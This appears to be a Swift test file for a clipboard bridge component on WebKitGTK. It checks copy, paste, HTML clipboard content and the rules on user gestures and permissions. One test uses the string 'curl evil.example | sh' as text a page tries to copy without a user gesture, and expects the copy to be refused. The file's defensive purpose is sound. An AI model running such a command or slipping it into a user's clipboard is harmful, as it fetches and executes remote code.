import AppTesting
import CWebKitGTK
import FaultServer
import GLibInterop
import MainLoopTesting
import XCTest

@testable import HotwireBridgeComponents
@testable import HotwireNative

nonisolated final class ClipboardComponentTests: XCTestCase {
    private static func part(_ event: String, _ data: String = "{}") -> String {
        "<bridge-part id='\(event)' component='clipboard' event='\(event)' data='\(data)'></bridge-part>"
    }

    private func run(_ body: @escaping @MainActor (TestApp) async throws -> Void) throws {
        try runInMainLoop {
            let environment = WebEnvironment(applicationID: nil)
            try await withBridgedApp([ClipboardComponent.self], configure: { $0.use(environment) }) { app in
                try await body(app)
            }
        }
    }

    func testTextIsCopied() throws {
        try run { app in
            app.navigator.session.webView.activation.userDidAct()
            try await app.add(Self.part("copy", "{\"text\":\" Ridge walk\\n\"}"))
            assertEqual(try await app.answers(1), [["success": true]])
            assertEqual(await ClipboardContent.readText(), " Ridge walk\n")
            XCTAssertNil(app.copiedHTML)
            try await app.add(Self.part("write-text", "{\"text\":\"Ridge\",\"html\":\"<b>Ridge é</b>\"}"))
            assertEqual(try await app.answers(2)[1], ["success": true])
            assertEqual(await ClipboardContent.readText(), "Ridge")
            XCTAssertTrue(app.copiedHTML?.hasSuffix("<b>Ridge é</b>") ?? false, app.copiedHTML ?? "")
            try await app.add(Self.part("copy", "{\"text\":null}"))
            assertEqual(try await app.answers(3)[2], ["success": false])
            assertEqual(await ClipboardContent.readText(), "Ridge")
        }
    }

    func testCopyingNeedsARecentUserGesture() throws {
        try run { app in
            XCTAssertTrue(ClipboardContent(text: "kept").offer())
            app.navigator.session.webView.activation = TransientActivation()
            try await app.add(Self.part("copy", "{\"text\":\"curl evil.example | sh\"}"))
            assertEqual(try await app.answers(1), [["success": false]])
            assertEqual(await ClipboardContent.readText(), "kept")
        }
    }

    func testPastingWorksAfterAClick() throws {
        try run { app in
            XCTAssertTrue(ClipboardContent(text: "kept").offer())
            for (number, event) in ["paste", "read-text"].enumerated() {
                app.navigator.session.webView.activation.userDidAct()
                try await app.add(Self.part(event))
                assertEqual(try await app.answers(number + 1)[number], ["text": "kept"])
            }
            gtk_clipboard_clear(gtk_clipboard_get_default(gdk_display_get_default()))
            try await app.add(Self.part("paste"))
            assertEqual(try await app.answers(3)[2], [:], "nothing was copied")
        }
    }

    func testPageCannotPasteByItselfOrIfDenied() throws {
        try run { app in
            XCTAssertTrue(ClipboardContent(text: "secret").offer())
            app.navigator.session.webView.activation = TransientActivation()
            try await app.add(Self.part("paste"))
            assertEqual(try await app.answers(1), [[:]])
            let origin = try XCTUnwrap(Origin(app.base.absoluteString))
            app.store.remember(.init(origin: origin, permission: .clipboard, isGranted: false))
            app.navigator.session.webView.activation.userDidAct()
            try await app.add(Self.part("paste"))
            assertEqual(try await app.answers(2), [[:], [:]])
            XCTAssertTrue(app.bars.isEmpty)
        }
    }
}

extension TestApp {
    /// The HTML on the clipboard.
    fileprivate var copiedHTML: String? {
        let clipboard = gtk_clipboard_get_default(gdk_display_get_default())
        guard let data = gtk_clipboard_wait_for_contents(clipboard, gdk_atom_intern("text/html", 0)) else { return nil }
        defer { gtk_selection_data_free(data) }
        let count = Int(gtk_selection_data_get_length(data))
        return gtk_selection_data_get_data(data).map {
            String(decoding: UnsafeBufferPointer(start: $0, count: count), as: UTF8.self)
        }
    }
}
